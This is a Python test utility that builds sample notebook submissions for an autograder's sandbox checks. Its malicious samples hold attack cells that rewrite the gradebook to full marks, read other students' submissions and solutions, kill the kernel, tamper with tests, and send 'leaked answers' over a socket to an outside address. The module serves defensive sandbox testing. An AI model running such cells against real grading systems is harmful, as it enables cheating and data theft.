"""Sample submissions, built from any assignment's source and release notebooks (no
per-assignment code): for tests, the CI check, the benchmark and the instructor's demo.

Honest samples:

- ``perfect``: the release notebook with every answer cell filled from the source's solution;
- ``partial``: the release notebook with the first half of the answer cells filled;
- ``empty``: the release notebook untouched.

Robustness samples (the reason must show in the grading summary):

- ``syntax``: the first answer cell has a syntax error (the rest is perfect);
- ``renamed``: a perfect notebook saved under another name (so the expected one is missing);
- ``missing``: a submission folder without any notebook.

Malicious samples, each a perfect notebook plus an attack (the sandbox must stop each one):

- ``loop``: the first answer cell starts with an infinite loop (the per-cell timeout stops it);
- ``crash``: a cell before the answers kills the kernel (``os._exit``);
- ``gradebook``: a cell that opens the course's gradebook and gives itself full marks;
- ``peek``: a cell that reads other students' submissions and the source notebooks;
- ``tamper``: the first test cell is replaced by ``pass`` and its answer left empty;
- ``socket``: a cell that opens TCP connections (to the grader's loopback and to the internet).

An attack that is stopped raises an error whose message starts with ``attack blocked`` or is
the operating system's refusal; the summary shows it as that cell's reason.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import nbformat

HONEST = ("perfect", "partial", "empty")
ROBUSTNESS = ("syntax", "renamed", "missing")
MALICIOUS = ("loop", "crash", "gradebook", "peek", "tamper", "socket")
KINDS = HONEST + ROBUSTNESS + MALICIOUS

_MARKERS = ("BEGIN SOLUTION", "END SOLUTION")


def _nbgrader(cell: dict) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _solutions(source_nb: nbformat.NotebookNode) -> dict[str, str]:
    """grade_id -> the answer as a student would write it (solution markers removed)."""
    out = {}
    for cell in source_nb.cells:
        meta = _nbgrader(cell)
        if meta.get("solution") and meta.get("grade_id"):
            lines = [line for line in cell.source.splitlines()
                     if not any(marker in line for marker in _MARKERS)]
            out[meta["grade_id"]] = "\n".join(lines)
    return out


def _answer_cells(nb: nbformat.NotebookNode, kind: str = "code") -> list[int]:
    return [i for i, c in enumerate(nb.cells)
            if _nbgrader(c).get("solution") and c.cell_type == kind]


def _test_cells(nb: nbformat.NotebookNode) -> list[int]:
    return [i for i, c in enumerate(nb.cells)
            if _nbgrader(c).get("grade") and not _nbgrader(c).get("solution")
            and c.cell_type == "code"]


def fill(release_nb: nbformat.NotebookNode, source_nb: nbformat.NotebookNode,
         fraction: float = 1.0) -> nbformat.NotebookNode:
    """A copy of ``release_nb`` with the first ``fraction`` of its code answers (and all its
    written answers when ``fraction`` is 1) filled in from ``source_nb``."""
    nb = copy.deepcopy(release_nb)
    answers = _solutions(source_nb)
    code = _answer_cells(nb)
    keep = set(code[: round(len(code) * fraction)])
    if fraction >= 1:
        keep |= set(_answer_cells(nb, "markdown"))
    for i in keep:
        grade_id = _nbgrader(nb.cells[i]).get("grade_id")
        if grade_id in answers:
            nb.cells[i].source = answers[grade_id]
    return nb


def _cell(source: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_code_cell(source)


def _insert_before_answers(nb: nbformat.NotebookNode, source: str) -> None:
    answers = _answer_cells(nb)
    nb.cells.insert(answers[0] if answers else len(nb.cells), _cell(source))


def _attack(kind: str, root: Path, assignment: str, target: tuple[str, int]) -> str:
    root_s = json.dumps(str(root))
    if kind == "gradebook":
        return (
            "# attack: give myself full marks in the gradebook\n"
            "import pathlib, sqlite3\n"
            f"candidates = [pathlib.Path({root_s}) / 'gradebook.db']\n"
            "candidates += [pathlib.Path.cwd().parents[i] / 'gradebook.db' for i in range(3)]\n"
            "found = [p for p in candidates if p.exists()]\n"
            "for path in found:\n"
            "    db = sqlite3.connect(path)\n"
            "    db.execute('UPDATE grade SET manual_score = 1000')\n"
            "    db.commit()\n"
            "if not found:\n"
            "    raise FileNotFoundError('attack blocked: no gradebook in reach')\n"
        )
    if kind == "peek":
        return (
            "# attack: read other submissions and the source (solutions, hidden tests)\n"
            "import pathlib\n"
            f"root = pathlib.Path({root_s})\n"
            f"patterns = ['submitted/*/{assignment}/*.ipynb', 'source/{assignment}/*.ipynb',"
            f" 'autograded/*/{assignment}/*.ipynb']\n"
            "stolen = [p for pat in patterns for p in root.glob(pat)]\n"
            "stolen += list(pathlib.Path.cwd().glob('*.ipynb'))\n"
            "stolen += list(pathlib.Path.cwd().parent.parent.glob('*/*/*.ipynb'))\n"
            "texts = [p.read_text()[:100] for p in stolen]\n"
            "if not texts:\n"
            "    raise FileNotFoundError('attack blocked: no other notebook in reach')\n"
            "print(len(texts), 'notebooks stolen')\n"
        )
    if kind == "socket":
        host, port = target
        return (
            "# attack: reach the network (exfiltrate, download answers)\n"
            "import socket\n"
            f"for address in [({host!r}, {port}), ('1.1.1.1', 80)]:\n"
            "    with socket.create_connection(address, timeout=5) as s:\n"
            "        s.sendall(b'leaked answers')\n"
            "print('network reached')\n"
        )
    raise ValueError(kind)


def build(kind: str, release_nb: nbformat.NotebookNode, source_nb: nbformat.NotebookNode, *,
          root: Path, assignment: str,
          target: tuple[str, int] = ("127.0.0.1", 9)) -> nbformat.NotebookNode | None:
    """The notebook of one sample kind (None for ``missing``)."""
    if kind not in KINDS:
        raise ValueError(f"unknown sample kind {kind!r}; choose from {', '.join(KINDS)}")
    if kind == "missing":
        return None
    if kind == "empty":
        return copy.deepcopy(release_nb)
    if kind == "partial":
        return fill(release_nb, source_nb, 0.5)
    nb = fill(release_nb, source_nb)
    answers = _answer_cells(nb)
    if kind == "syntax" and answers:
        nb.cells[answers[0]].source = "def broken(:\n" + nb.cells[answers[0]].source
    elif kind == "loop" and answers:
        nb.cells[answers[0]].source = "while True:\n    pass\n" + nb.cells[answers[0]].source
    elif kind == "crash":
        _insert_before_answers(nb, "# attack: kill the kernel\nimport os\nos._exit(1)\n")
    elif kind == "tamper":
        tests = _test_cells(nb)
        if tests:
            nb.cells[tests[0]].source = "pass  # the test was here"
            before = [i for i in answers if i < tests[0]]
            if before:
                nb.cells[before[-1]].source = release_nb.cells[before[-1]].source
    elif kind in {"gradebook", "peek", "socket"}:
        nb.cells.append(_cell(_attack(kind, root, assignment, target)))
    return nb


def write_samples(root: Path, assignment: str, kinds: tuple[str, ...] | list[str] = KINDS, *,
                  prefix: str = "", copies: int = 1,
                  target: tuple[str, int] = ("127.0.0.1", 9)) -> list[str]:
    """Write sample submissions of ``assignment`` into ``root/submitted/<student>/<assignment>``,
    one student per kind (``<prefix><kind>``, and ``-<n>`` suffixes when ``copies`` > 1); the
    release folder must exist (``python -m autograder release``). Returns the student ids."""
    root = Path(root).resolve()
    release_dir = root / "release" / assignment
    source_dir = root / "source" / assignment
    notebooks = sorted(p.name for p in source_dir.glob("*.ipynb"))
    if not notebooks:
        raise FileNotFoundError(f"no notebook in {source_dir}")
    missing = [n for n in notebooks if not (release_dir / n).is_file()]
    if missing:
        raise FileNotFoundError(
            f"{release_dir} lacks {', '.join(missing)}: run `python -m autograder release` first"
        )
    students = []
    for kind in kinds:
        for n in range(copies):
            student = f"{prefix}{kind}" + (f"-{n + 1}" if copies > 1 else "")
            folder = root / "submitted" / student / assignment
            folder.mkdir(parents=True, exist_ok=True)
            for name in notebooks:
                release_nb = nbformat.read(release_dir / name, as_version=4)
                source_nb = nbformat.read(source_dir / name, as_version=4)
                nb = build(kind, release_nb, source_nb, root=root, assignment=assignment,
                           target=target)
                if nb is None:
                    continue
                out = folder / (f"my_{name}" if kind == "renamed" else name)
                nbformat.write(nb, out)
            # Data files the release ships (the student works beside them).
            for path in release_dir.rglob("*"):
                rel = path.relative_to(release_dir)
                if path.is_file() and path.suffix != ".ipynb":
                    (folder / rel).parent.mkdir(parents=True, exist_ok=True)
                    (folder / rel).write_bytes(path.read_bytes())
            students.append(student)
    return students
